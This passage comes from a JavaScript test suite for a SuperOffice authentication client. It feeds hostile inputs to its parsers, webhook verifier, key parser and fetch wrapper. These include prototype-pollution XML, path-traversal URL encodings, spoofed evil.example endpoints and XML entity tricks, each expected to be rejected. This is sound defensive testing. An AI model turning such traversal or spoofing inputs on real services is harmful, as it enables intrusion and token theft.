    [
      'HTML error page with 502',
      {
        status: 502,
        headers: { 'content-type': 'text/html' },
        body: '<!DOCTYPE html><html><body>Bad gateway</body></html>',
      },
      'ERR_HTTP_STATUS',
    ],
    ['a result with 500', soap(good, 500), 'ERR_HTTP_STATUS'],
    [
      'SOAP 1.1 fault',
      soap(envelope('<s:Fault><faultcode>s:Client</faultcode><faultstring>Bad</faultstring></s:Fault>'), 500),
      'ERR_SOAP_FAULT',
    ],
    [
      'a fault beside a result',
      soap(
        envelope(
          `<s:Fault><faultcode>s:Client</faultcode><faultstring>x</faultstring></s:Fault><GetAssociateResponse xmlns="${NS}"/>`,
        ),
      ),
      'ERR_RESPONSE_MALFORMED',
    ],
    // Issue 19: a rejection is NetServer's own exception type, by exact name; never a word in a message.
    [
      'ExceptionInfo SoSessionException',
      soap(
        agent(
          '<Response i:nil="true"/>',
          `<ExceptionInfo xmlns="${NS}"><ExceptionType>SoSessionException</ExceptionType></ExceptionInfo>`,
        ),
      ),
      'ERR_TICKET_REJECTED',
    ],
    [
      'ExceptionInfo "Unknown ticket id 5"',
      soap(
        agent(
          '<Response i:nil="true"/>',
          `<ExceptionInfo xmlns="${NS}"><ExceptionType>ArgumentException</ExceptionType><Message>Unknown ticket id 5</Message></ExceptionInfo>`,
        ),
      ),
      'ERR_NETSERVER_EXCEPTION',
    ],
    [
      'ExceptionInfo naming security',
      soap(
        agent(
          '<Response i:nil="true"/>',
          `<ExceptionInfo xmlns="${NS}"><ExceptionType>SoSecurityException</ExceptionType></ExceptionInfo>`,
        ),
      ),
      'ERR_NETSERVER_EXCEPTION',
    ],
    [
      'ExceptionInfo SoSessionException in another case',
      soap(
        agent(
          '<Response i:nil="true"/>',
          `<ExceptionInfo xmlns="${NS}"><ExceptionType>sosessionexception</ExceptionType></ExceptionInfo>`,
        ),
      ),
      'ERR_NETSERVER_EXCEPTION',
    ],
    // Issue 19: elements that would reach a prototype when merged are dropped from the result.
    [
      'a __proto__ element',
      soap(agent('<Response><__proto__><polluted>1</polluted></__proto__><A>1</A></Response>')),
      'OK',
    ],
    [
      'constructor and prototype elements',
      soap(agent('<Response><constructor><prototype>1</prototype></constructor></Response>')),
      'OK',
    ],
  ];
  table(rows, (response) => parseAgentResponse(response, { protocol: 'soap', method: 'GetAssociate' }));
  for (const [name, response] of rows) {
    const started = performance.now();
    try {
      parseAgentResponse(response, { protocol: 'soap', method: 'GetAssociate' });
    } catch {
      // the code was checked above
    }
    assert.ok(performance.now() - started < 1000, `row: ${name} took ${Math.round(performance.now() - started)} ms`);
  }
});

test('hostile SOAP lists through parseAgentResponse with the WSDL table', () => {
  const NS = 'http://www.superoffice.net/ws/crm/NetServer/Services88';
  const contact = (inner) =>
    soap(
      `<s:Envelope xmlns:s="${S11}"><s:Body><GetContactEntityResponse xmlns="${NS}" xmlns:i="${XSI}"><Response>${inner}</Response></GetContactEntityResponse></s:Body></s:Envelope>`,
    );
  const pair = (key, value) => `<StringKeyValuePair><Key>${key}</Key><Value>${value}</Value></StringKeyValuePair>`;
  table(
    [
      ['a list of one', contact('<Phones><EntityElement><Value>1</Value></EntityElement></Phones>'), 'OK'],
      ['a dictionary', contact(`<CustomFields>${pair('a', '1')}${pair('b', '2')}</CustomFields>`), 'OK'],
      // A dictionary is a list of pairs: read as it is, a key given twice included.
      ['a dictionary key twice', contact(`<CustomFields>${pair('a', '1')}${pair('a', '2')}</CustomFields>`), 'OK'],
      ['text beside the pairs', contact(`<CustomFields>x${pair('a', '1')}</CustomFields>`), 'ERR_RESPONSE_MALFORMED'],
      ['text in a list', contact('<Phones>+47 22 00 00 00</Phones>'), 'ERR_RESPONSE_MALFORMED'],
      ['a nil list', contact('<Phones i:nil="true"/>'), 'OK'],
      ['a nil list with content', contact('<Phones i:nil="true"><EntityElement/></Phones>'), 'ERR_RESPONSE_MALFORMED'],
      ['1 000 list items', contact(`<Phones>${'<EntityElement/>'.repeat(1_000)}</Phones>`), 'OK'],
      [
        '5 000 list items (over the element cap)',
        contact(`<Phones>${'<EntityElement/>'.repeat(5_000)}</Phones>`),
        'ERR_RESPONSE_MALFORMED',
      ],
      [
        'deep recursion through ChildItems',
        contact(
          `<Interests>${'<SelectableMDOListItem><ChildItems>'.repeat(200)}${'</ChildItems></SelectableMDOListItem>'.repeat(200)}</Interests>`,
        ),
        'ERR_RESPONSE_MALFORMED',
      ],
    ],
    (response) => parseAgentResponse(response, { protocol: 'soap', agent: 'Contact', method: 'GetContactEntity' }),
  );
  table([['an agent name that is not one', contact(''), 'ERR_INVALID_ARGUMENT']], (response) =>
    parseAgentResponse(response, { protocol: 'soap', agent: 'Contact Agent', method: 'GetContactEntity' }),
  );
});

test('hostile JSON and responses through parseAgentResponse over REST', () => {
  const json = (body, status = 200, type = 'application/json; charset=utf-8') => ({
    status,
    headers: { 'content-type': type },
    body,
  });
  table(
    [
      ['valid', json('{"AssociateId":5}'), 'OK'],
      ['null', json('null'), 'OK'],
      ['BOM', json('\uFEFF[1]'), 'OK'],
      ['empty 204', { status: 204, headers: {}, body: '' }, 'OK'],
      ['a member twice', json('{"AssociateId":5,"AssociateId":6}'), 'ERR_RESPONSE_MALFORMED'],
      ['a member twice after unescaping', json('{"Name":"a","\\u004eame":"b"}'), 'ERR_RESPONSE_MALFORMED'],
      ['a member twice, deep', json('[{"a":{"b":1,"b":2}}]'), 'ERR_RESPONSE_MALFORMED'],
      ['128 levels', json(`${'['.repeat(128)}${']'.repeat(128)}`), 'ERR_RESPONSE_MALFORMED'],
      ['10 000 levels', json(`${'['.repeat(10_000)}${']'.repeat(10_000)}`), 'ERR_RESPONSE_MALFORMED'],
      ['a number out of range', json('[1e400]'), 'ERR_RESPONSE_MALFORMED'],
      ['a lone surrogate', json('"\\ud800"'), 'ERR_RESPONSE_MALFORMED'],
      ['trailing garbage', json('{} {}'), 'ERR_RESPONSE_MALFORMED'],
      ['JSON as text/plain', json('{}', 200, 'text/plain'), 'ERR_RESPONSE_MALFORMED'],
      ['XML where JSON belongs', json('<ContactEntity/>', 200, 'application/xml'), 'ERR_RESPONSE_MALFORMED'],
      [
        'an error object in a 200',
        json('{"Message":"The request is invalid.","MessageDetail":"x"}'),
        'ERR_NETSERVER_EXCEPTION',
      ],
      [
        'an error object with 500',
        json(
          '{"Message":"An error has occurred.","ExceptionMessage":"x","ExceptionType":"System.Exception","StackTrace":"at x"}',
          500,
        ),
        'ERR_NETSERVER_EXCEPTION',
      ],
      [
        'the session exception with 500',
        json(
          '{"Message":"An error has occurred.","ExceptionMessage":"The ticket has expired","ExceptionType":"SoSessionException"}',
          500,
        ),
        'ERR_TICKET_REJECTED',
      ],
      [
        'another security exception with 500 (not a rejection)',
        json(
          '{"Message":"An error has occurred.","ExceptionMessage":"The ticket has expired","ExceptionType":"SoSecurityException"}',
          500,
        ),
        'ERR_NETSERVER_EXCEPTION',
      ],
      ['401 with any body', json('<html>', 401, 'text/html'), 'ERR_TICKET_REJECTED'],
      ['an HTML error page with 502', json('<!DOCTYPE html><p>Bad gateway</p>', 502, 'text/html'), 'ERR_HTTP_STATUS'],
      ['a result with 500', json('{"AssociateId":5}', 500), 'ERR_HTTP_STATUS'],
      ['50 MB body', json(' '.repeat(50 * 1024 * 1024)), 'ERR_RESPONSE_TOO_LARGE'],
      ['50 MB body with 401', json(' '.repeat(50 * 1024 * 1024), 401), 'ERR_RESPONSE_TOO_LARGE'],
      [
        'not UTF-8',
        { status: 200, headers: { 'content-type': 'application/json' }, body: new Uint8Array([0x22, 0xff, 0x22]) },
        'ERR_RESPONSE_MALFORMED',
      ],
    ],
    (response) => parseAgentResponse(response),
  );
});

test('hostile state API answers through parseTenantState', () => {
  // SuperOffice's example (developer-portal/best-practices/tenant-status/check-status.md), then changed.
  const documented = {
    ContextIdentifier: 'Cust12345',
    Endpoint: 'https://online2.superoffice.com/Cust12345',
    State: 'Running',
    IsRunning: true,
    ValidUntil: '2026-11-23T14:52:01.9342965Z',
    Api: 'https://online2.superoffice.com/Cust12345/api',
    Version: 'Release_11.10_2026.02.24-02',
  };
  const json = (changes = {}, status = 200) => {
    const object = { ...documented, ...changes };
    for (const [name, value] of Object.entries(changes)) if (value === undefined) delete object[name];
    return { status, headers: { 'content-type': 'application/json; charset=utf-8' }, body: JSON.stringify(object) };
  };
  const raw = (body, status = 200) => ({ status, headers: { 'content-type': 'application/json' }, body });
  const good = JSON.stringify(documented);
  const rows = [
    ['the documented answer', json(), 'OK'],
    ['BOM', raw(`\uFEFF${good}`), 'OK'],
    ['State as a number', json({ State: 2 }), 'OK'],
    ['an undocumented state', json({ State: 'Hibernating', IsRunning: false }), 'OK'],
    [
      'a tenant in maintenance with no endpoint',
      json({ State: 'OfflineMaintenance', IsRunning: false, Endpoint: null, Api: null }),
      'OK',
    ],
    ['404', json({}, 404), 'ERR_HTTP_STATUS'],
    ['421 with the right body', json({}, 421), 'ERR_HTTP_STATUS'],
    ['HTML error page with 502', raw('<!DOCTYPE html><html><body>Bad gateway</body></html>', 502), 'ERR_HTTP_STATUS'],
    ['50 MB body', raw(' '.repeat(50 * 1024 * 1024)), 'ERR_RESPONSE_TOO_LARGE'],
    ['50 MB body with status 404', raw('{'.repeat(50 * 1024 * 1024), 404), 'ERR_RESPONSE_TOO_LARGE'],
    ['empty body', raw(''), 'ERR_RESPONSE_MALFORMED'],
    ['HTML with 200', raw('<html></html>'), 'ERR_RESPONSE_MALFORMED'],
    ['an array', raw('[]'), 'ERR_RESPONSE_MALFORMED'],
    ['a member twice', raw(good.replace('{', '{"State":"Deleted",')), 'ERR_RESPONSE_MALFORMED'],
    [
      'a member twice through an escape',
      raw(good.replace('{', '{"\\u0045ndpoint":"https://evil.example/Cust12345",')),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'a member under both spellings',
      json({ endpoint: 'https://online3.superoffice.com/Cust12345' }),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['200-deep nesting', raw(`{"x":${'['.repeat(200)}${']'.repeat(200)}}`), 'ERR_RESPONSE_MALFORMED'],
    ['another tenant', json({ ContextIdentifier: 'Cust99999' }), 'ERR_RESPONSE_MALFORMED'],
    ['no tenant', json({ ContextIdentifier: undefined }), 'ERR_RESPONSE_MALFORMED'],
    ['Deleted but running', json({ State: 'Deleted' }), 'ERR_RESPONSE_MALFORMED'],
    ['Running but not running', json({ IsRunning: false }), 'ERR_RESPONSE_MALFORMED'],
    ['IsRunning as text', json({ IsRunning: 'true' }), 'ERR_RESPONSE_MALFORMED'],
    ['a state with markup', json({ State: '<script>' }), 'ERR_RESPONSE_MALFORMED'],
    ['a negative state', json({ State: -1 }), 'ERR_RESPONSE_MALFORMED'],
    ['running without an endpoint', json({ Endpoint: undefined }), 'ERR_RESPONSE_MALFORMED'],
    [
      "an endpoint off SuperOffice's domain",
      json({ Endpoint: 'https://evil.example/Cust12345', Api: undefined }),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'an endpoint on a look-alike domain',
      json({ Endpoint: 'https://online2.superoffice.com.evil.example/Cust12345', Api: undefined }),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'an http endpoint',
      json({ Endpoint: 'http://online2.superoffice.com/Cust12345', Api: undefined }),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'an endpoint with user info',
      json({ Endpoint: 'https://x@online2.superoffice.com/Cust12345', Api: undefined }),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'a loopback endpoint without a custom base',
      json({ Endpoint: 'http://127.0.0.1:1/Cust12345', Api: undefined }),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      "another tenant's endpoint",
      json({ Endpoint: 'https://online2.superoffice.com/Cust99999', Api: undefined }),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['an Api on another host', json({ Api: 'https://evil.example/Cust12345/api' }), 'ERR_RESPONSE_MALFORMED'],
    ['ValidUntil without a zone', json({ ValidUntil: '2026-11-23T14:52:01.934' }), 'ERR_RESPONSE_MALFORMED'],
    ['ValidUntil on 30 February', json({ ValidUntil: '2026-02-30T14:52:01Z' }), 'ERR_RESPONSE_MALFORMED'],
    ['ValidUntil as a number', json({ ValidUntil: Date.now() }), 'ERR_RESPONSE_MALFORMED'],
  ];
  table(rows, (response) =>
    parseTenantState(response, { contextIdentifier: 'Cust12345', now: NOW, environment: 'online' }),
  );
});

test('hostile webhook deliveries through verifyWebhook: the code, and the reason in the outcome', () => {
  const secret = 'hostile-table-secret';
  const mac = (body) => createHmac('sha256', secret).update(body).digest('base64');
  const event = {
    EventId: '8337ae4a-1dd6-40fd-8dc7-a050664a0af7',
    Timestamp: '2026-11-23T14:05:30.0000000Z',
    Changes: [],
    Event: 'contact.changed',
    PrimaryKey: 1,
    Entity: 'contact',
    ContextIdentifier: 'Cust1',
    ChangedByAssociateId: 5,
    WebhookName: 'w',
  };
  const signed = (body, extra = {}) => ({ body, headers: { 'X-SuperOffice-Signature': mac(body), ...extra } });
  const good = JSON.stringify(event);
  const deep = `${'['.repeat(200)}${']'.repeat(200)}`;
  const rows = [
    ['the documented shape', signed(good), 'OK'],
    ['a BOM before the JSON', signed(`\uFEFF${good}`), 'OK'],
    ['unknown members kept', signed(JSON.stringify({ ...event, Values: { contact_id: 1 } })), 'OK'],
    ['no signature', { body: good, headers: {} }, 'ERR_WEBHOOK_INVALID missing-signature'],
    [
      'an empty signature',
      { body: good, headers: { 'x-superoffice-signature': '' } },
      'ERR_WEBHOOK_INVALID malformed-signature',
    ],
    [
      'a 33-byte signature',
      { body: good, headers: { 'x-superoffice-signature': Buffer.alloc(33).toString('base64') } },
      'ERR_WEBHOOK_INVALID malformed-signature',
    ],
    [
      'non-canonical base64 bits',
      { body: good, headers: { 'x-superoffice-signature': mac(good).replace(/.=$/, 'B=') } },
      'ERR_WEBHOOK_INVALID',
    ],
    [
      'the signature of an empty body',
      { body: good, headers: { 'x-superoffice-signature': mac('') } },
      'ERR_WEBHOOK_INVALID signature-mismatch',
    ],
    [
      'a NUL appended after signing',
      { body: `${good}\u0000`, headers: signed(good).headers },
      'ERR_WEBHOOK_INVALID signature-mismatch',
    ],
    ['nested 200 deep, signed', signed(deep), 'ERR_WEBHOOK_INVALID malformed-json'],
    ['a lone surrogate escape, signed', signed(good.replace('"w"', '"\\ud800"')), 'ERR_WEBHOOK_INVALID malformed-json'],
    [
      'a number beyond f64, signed',
      signed(good.replace('"PrimaryKey":1', '"PrimaryKey":1e400')),
      'ERR_WEBHOOK_INVALID malformed-json',
    ],
    [
      'PrimaryKey beyond i64, signed',
      signed(good.replace('"PrimaryKey":1', '"PrimaryKey":18446744073709551615')),
      'ERR_WEBHOOK_INVALID malformed-event',
    ],
    [
      'EventId with a control character',
      signed(good.replace('8337ae4a', '8337\\u0001ae4a')),
      'ERR_WEBHOOK_INVALID malformed-event',
    ],
    [
      'an EventId of 201 characters',
      signed(JSON.stringify({ ...event, EventId: 'a'.repeat(201) })),
      'ERR_WEBHOOK_INVALID malformed-event',
    ],
    [
      'Timestamp year 0001',
      signed(JSON.stringify({ ...event, Timestamp: '0001-01-01T00:00:00Z' })),
      'ERR_WEBHOOK_INVALID malformed-event',
    ],
    [
      'the header id of another event',
      signed(good, { 'x-superoffice-eventid': 'x' }),
      'ERR_WEBHOOK_INVALID event-id-mismatch',
    ],
    ['the header id in upper case', signed(good, { 'x-superoffice-eventid': event.EventId.toUpperCase() }), 'OK'],
    ['over 256 KiB', signed(`${good}${' '.repeat(256 * 1024)}`), 'ERR_RESPONSE_TOO_LARGE'],
  ];
  stillWorks();
  for (const [name, input, expected] of rows) {
    let outcome;
    try {
      verifyWebhook({ ...input, secret, now: NOW });
      outcome = 'OK';
    } catch (error) {
      assert.ok(error instanceof SuperOfficeAuthError, `${name}: ${error}`);
      outcome = error.reason && expected.includes(' ') ? `${error.code} ${error.reason}` : error.code;
    }
    assert.equal(outcome, expected, `row: ${name}`);
    stillWorks();
  }
});

test('hostile and odd keys through PrivateKey.parse', () => {
  const body = (pem) => pem.replace(/-----[^-]+-----|\s/g, '');
  const wrap = (label, base64, width, newline = '\n') =>
    `-----BEGIN ${label}-----${newline}${base64.match(new RegExp(`.{1,${width}}`, 'g')).join(newline)}${newline}-----END ${label}-----${newline}`;
  const jwk = signer.privateKey.export({ format: 'jwk' });
  const xmlWith = (field, value) =>
    signer.xml.replace(new RegExp(`<${field}>[^<]*</${field}>`), value === null ? '' : `<${field}>${value}</${field}>`);
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const ed = generateKeyPairSync('ed25519');
  const pss = generateKeyPairSync('rsa-pss', { modulusLength: 2048 });
  const small = makeKeyPair(1024);
  const rows = [
    ['PKCS#1', signer.pkcs1, 'OK'],
    ['PKCS#8', signer.pkcs8, 'OK'],
    ['XML', signer.xml, 'OK'],
    ['BOM', `\uFEFF${signer.pkcs8}`, 'OK'],
    ['CRLF', signer.pkcs1.replaceAll('\n', '\r\n'), 'OK'],
    ['76 columns', wrap('PRIVATE KEY', body(signer.pkcs8), 76), 'OK'],
    ['single-line base64', wrap('RSA PRIVATE KEY', body(signer.pkcs1), 100_000), 'OK'],
    ['all on one line', signer.pkcs8.replaceAll('\n', ' '), 'OK'],
    ['leading text', `Bag Attributes\n    localKeyID: 01\nsubject=/CN=x\n${signer.pkcs8}`, 'OK'],
    ['public key beside the private key', `${signer.spki}${signer.pkcs8}`, 'OK'],
    ['two private keys', `${signer.pkcs8}${attacker.pkcs8}`, 'ERR_KEY_INVALID'],
    [
      'encrypted PKCS#8',
      signer.privateKey.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'pw' }),
      'ERR_KEY_ENCRYPTED',
    ],
    [
      'legacy encrypted PKCS#1',
      signer.privateKey.export({ type: 'pkcs1', format: 'pem', cipher: 'aes-128-cbc', passphrase: 'pw' }),
      'ERR_KEY_ENCRYPTED',
    ],
    ['EC PKCS#8', ec.privateKey.export({ type: 'pkcs8', format: 'pem' }), 'ERR_KEY_UNSUPPORTED'],
    ['EC SEC1', ec.privateKey.export({ type: 'sec1', format: 'pem' }), 'ERR_KEY_UNSUPPORTED'],
    ['Ed25519', ed.privateKey.export({ type: 'pkcs8', format: 'pem' }), 'ERR_KEY_UNSUPPORTED'],
    ['RSA-PSS', pss.privateKey.export({ type: 'pkcs8', format: 'pem' }), 'ERR_KEY_UNSUPPORTED'],
    ['SPKI public key', signer.spki, 'ERR_KEY_UNSUPPORTED'],
    ['PKCS#1 public key', signer.publicKey.export({ type: 'pkcs1', format: 'pem' }), 'ERR_KEY_UNSUPPORTED'],
    ['certificate', certPem, 'ERR_KEY_UNSUPPORTED'],
    ['1024-bit PKCS#8', small.pkcs8, 'ERR_KEY_TOO_SMALL'],
    ['1024-bit XML', small.xml, 'ERR_KEY_TOO_SMALL'],
    [
      'XML public key only',
      `<RSAKeyValue><Modulus>${Buffer.from(jwk.n, 'base64url').toString('base64')}</Modulus><Exponent>AQAB</Exponent></RSAKeyValue>`,
      'ERR_KEY_UNSUPPORTED',
    ],
    ['XML without DP', xmlWith('DP', null), 'ERR_KEY_INVALID'],
    ['XML DP inconsistent', xmlWith('DP', Buffer.from(jwk.dq, 'base64url').toString('base64')), 'ERR_KEY_INVALID'],
    ['XML InverseQ inconsistent', xmlWith('InverseQ', 'AQ=='), 'ERR_KEY_INVALID'],
    ['XML P = 1', xmlWith('P', 'AQ=='), 'ERR_KEY_INVALID'],
    ['XML with DOCTYPE', `<!DOCTYPE RSAKeyValue [<!ENTITY x "y">]>${signer.xml}`, 'ERR_KEY_INVALID'],
    ['XML with an entity', signer.xml.replace('<D>', '<D>&x;'), 'ERR_KEY_INVALID'],
    [
      'XML of another key mixed in',
      dotNetXml({ ...jwk, d: attacker.privateKey.export({ format: 'jwk' }).d }),
      'ERR_KEY_INVALID',
    ],
    ['base64 without PEM lines', body(signer.pkcs8), 'ERR_KEY_INVALID'],
    ['truncated PEM', signer.pkcs8.slice(0, 400), 'ERR_KEY_INVALID'],
    ['garbage', 'not a key', 'ERR_KEY_INVALID'],
    ['300 KiB of text', `${signer.pkcs8}${' '.repeat(300 * 1024)}`, 'ERR_KEY_INVALID'],
    ['50 MB of text', 'A'.repeat(50 * 1024 * 1024), 'ERR_KEY_INVALID'],
    ['empty', '', 'ERR_INVALID_ARGUMENT'],
  ];
  table(rows, (text) => PrivateKey.parse(text));
  // signToken with key text takes the same path.
  assert.throws(() => signToken('T', small.pkcs8, { now: NOW }), { code: 'ERR_KEY_TOO_SMALL' });
  assert.throws(() => signToken('T', 'A'.repeat(50 * 1024 * 1024), { now: NOW }), { code: 'ERR_KEY_INVALID' });
  stillWorks();
});

test('size caps refused in JS give the same code and message as the core', () => {
  // 'é' is one UTF-16 unit and two UTF-8 bytes: these strings pass the JS check (units) and are
  // refused by the core (bytes), so both paths are compared.
  const pairs = [
    [(n) => validateToken('é'.repeat(n), validation), 16 * 1024],
    [(n) => parseTicketResponse(soap('é'.repeat(n)), ticketOptions), 256 * 1024],
    [(n) => PrivateKey.parse('é'.repeat(n)), 256 * 1024],
    [(n) => KeySet.from(`-----BEGIN PUBLIC KEY-----${'é'.repeat(n)}`), 1024 * 1024],
  ];
  for (const [call, limit] of pairs) {
    const capture = (n) => {
      try {
        call(n);
      } catch (error) {
        return { code: error.code, message: error.message, limit: error.limit };
      }
      return assert.fail('accepted');
    };
    assert.deepEqual(capture(limit + 1), capture(limit / 2 + 1));
  }
  stillWorks();
});

// Issue 19: where client.fetch may send a tenant's ticket. One row per input, through the public client
// against the stand-in; 'OK' means the request reached the tenant (and nothing else was sent anywhere).
test("hostile URLs and options through client.fetch: only the tenant's own base, redirects never followed", async () => {
  const { standIn } = await import('./helpers/stand-in.mjs');
  const { createSystemUserClient } = await import('superoffice-auth');
  const s = await standIn({ tenants: 2 });
  try {
    const client = createSystemUserClient(s.options({ systemUserTokens: s.tenants }));
    const base = s.mock.baseUrl;
    const path = 'api/v1/User/currentPrincipal';
    const rows = [
      ['relative', ['v1/User/currentPrincipal'], 'OK'],
      ["absolute, the tenant's own", [`${base}/Cust1/${path}`], 'OK'],
      ['a dot segment that stays inside', ['v1/x/../User/currentPrincipal'], 'OK'],
      ['the sibling tenant', [`${base}/Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['up and over, relative', [`../../Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['up and over, absolute', [`${base}/Cust1/api/../../Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['%2e%2e segments', [`%2e%2e/%2E%2e/Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['.%2e segments', [`.%2e/.%2e/Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['an encoded slash', [`..%2f..%2fCust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['an encoded backslash', [`..%5C..%5CCust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['backslashes', [`${base}/Cust1\\..\\..\\Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['double encoding', [`%252e%252e/%252e%252e/Cust2/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['a longer tenant id', [`${base}/Cust10/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['the tenant id without its slash', [`${base}/Cust1`], 'ERR_INVALID_ARGUMENT'],
      ['user info', [`${base.replace('://', '://x:y@')}/Cust1/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['another port on the same host', [`${base.replace(/:\d+$/, ':1')}/Cust1/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['another scheme', [`ftp://127.0.0.1/Cust1/${path}`], 'ERR_INVALID_ARGUMENT'],
      ['redirect follow', ['v1/User/currentPrincipal', { redirect: 'follow' }], 'ERR_INVALID_ARGUMENT'],
      ['redirect manual', ['v1/User/currentPrincipal', { redirect: 'manual' }], 'OK'],
    ];
    for (const [name, args, expected] of rows) {
      const before = s.mock.stats.api + s.mock.stats.other;
      let outcome;
      try {
        const res = await client.fetch('Cust1', ...args);
        await res.text();
        outcome = res.status === 200 ? 'OK' : `HTTP ${res.status}`;
      } catch (error) {
        assert.ok(error instanceof SuperOfficeAuthError, `${name}: ${error}`);
        outcome = error.code;
      }
      assert.equal(outcome, expected, `row: ${name}`);
      assert.equal(
        s.mock.stats.api + s.mock.stats.other,
        before + (expected === 'OK' ? 1 : 0),
        `row: ${name}: requests sent`,
      );
    }
  } finally {
    await s.mock.close();
  }
});
